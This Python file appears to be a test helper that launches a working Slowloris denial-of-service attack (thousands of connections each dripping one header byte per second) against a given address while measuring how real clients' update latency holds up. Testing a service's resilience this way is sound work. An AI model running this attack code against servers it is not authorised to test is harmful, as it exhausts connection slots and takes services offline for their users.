# SPDX-License-Identifier: Apache-2.0
"""Slowloris: thousands of connections that send a byte of a header each second, from a process of
its own; and beside it `Pace`, real clients whose round trips are measured."""

import asyncio
import collections
import json
import select
import socket
import subprocess
import sys
import time

BYTES = b"GET / HTTP/1.1\r\nHost: a\r\n" + b"X-Slow: 1\r\n" * 1000
TICKS_PER_S = 20
CONNECTS_A_TICK = 250


class Attack:
    def __init__(self, address, count):
        self.process = subprocess.Popen([sys.executable, __file__, address, str(count)], stdout=subprocess.PIPE, text=True)

    def result(self, timeout):
        """{"opened", "cut", "answers": {status: n}, "least_s", "most_s"}: from connecting to the end."""
        out, _ = self.process.communicate(timeout=timeout)
        return json.loads(out)


def start(address, count):
    return Attack(address, count)


class Pace:
    """Ten clients of one account, and how long each update takes from the producer to all of them."""

    CLIENTS = 10

    def __init__(self, gateway, feed, token):
        self.gateway, self.feed, self.token = gateway, feed, token
        self.loop = asyncio.new_event_loop()
        self.clients, self.minor = [], 0

    def __enter__(self):
        from .native import Native  # the attack itself runs this file as a program, outside of the package
        self.feed.put("PACE", 0)
        self.feed.flush()
        for _ in range(self.CLIENTS):
            client = self.loop.run_until_complete(Native(self.gateway, self.token).__aenter__())
            self.clients.append(client)
            self.loop.run_until_complete(client.sub("PACE"))
        return self

    def __exit__(self, *unused):
        for client in self.clients:
            self.loop.run_until_complete(client.ws.close())
        self.loop.close()

    def measure(self, seconds):
        """The 99th percentile of the round trips of so many seconds."""
        return self.loop.run_until_complete(self.rounds(seconds))

    async def rounds(self, seconds):
        times, end = [], time.monotonic() + seconds
        while time.monotonic() < end:
            self.minor += 1
            began = time.monotonic()
            self.feed.put("PACE", self.minor)
            await asyncio.gather(*(c.until(lambda c=c: c.balance("PACE") == self.minor) for c in self.clients))
            times.append(time.monotonic() - began)
        for client in self.clients:
            client.check()
            client.frames.clear()
        return sorted(times)[min(len(times) - 1, len(times) * 99 // 100)]


# ---- the attacking process ----

class Crowd:
    def __init__(self, host, port, count):
        self.address, self.count = (host, port), count
        self.poll = select.epoll()
        self.alive, self.order = {}, []  # fd -> [socket, opened at, bytes sent, what came]
        self.lasted, self.answers = [], collections.Counter()
        self.opened = 0

    def connect(self):
        s = socket.socket()
        s.setblocking(False)
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        try:
            s.connect(self.address)
        except BlockingIOError:
            pass
        self.opened += 1
        self.alive[s.fileno()] = [s, time.monotonic(), 0, b""]
        self.order.append(s.fileno())
        self.poll.register(s, select.EPOLLIN)

    def drip(self, fd):
        entry = self.alive.get(fd)
        if entry:
            try:
                entry[2] += entry[0].send(BYTES[entry[2]:entry[2] + 1])
            except OSError:
                pass  # its end is seen by the poll

    def read(self, fd):
        entry = self.alive[fd]
        try:
            data = entry[0].recv(65536)
        except BlockingIOError:
            return
        except OSError:
            data = b""
        if data:
            entry[3] += data
            return
        self.answers[entry[3].split()[1].decode() if entry[3].startswith(b"HTTP/1.1 ") else "none"] += 1
        self.lasted.append(time.monotonic() - entry[1])
        self.poll.unregister(fd)
        entry[0].close()
        del self.alive[fd]

    def run(self, give_up_s):
        end, tick = time.monotonic() + give_up_s, 0
        while (self.alive or self.opened < self.count) and time.monotonic() < end:
            due = time.monotonic() + 1 / TICKS_PER_S
            if self.opened < self.count:
                for _ in range(min(CONNECTS_A_TICK, self.count - self.opened)):
                    self.connect()
            for fd in self.order[tick % TICKS_PER_S::TICKS_PER_S]:
                self.drip(fd)
            while (left := due - time.monotonic()) > 0:
                for fd, _ in self.poll.poll(left, 1000):
                    self.read(fd)
            tick += 1
        return {"opened": self.opened, "cut": len(self.lasted), "answers": self.answers,
                "least_s": min(self.lasted, default=0), "most_s": max(self.lasted, default=0)}


if __name__ == "__main__":
    target, target_port = sys.argv[1].rsplit(":", 1)
    print(json.dumps(Crowd(target, int(target_port), int(sys.argv[2])).run(25)))
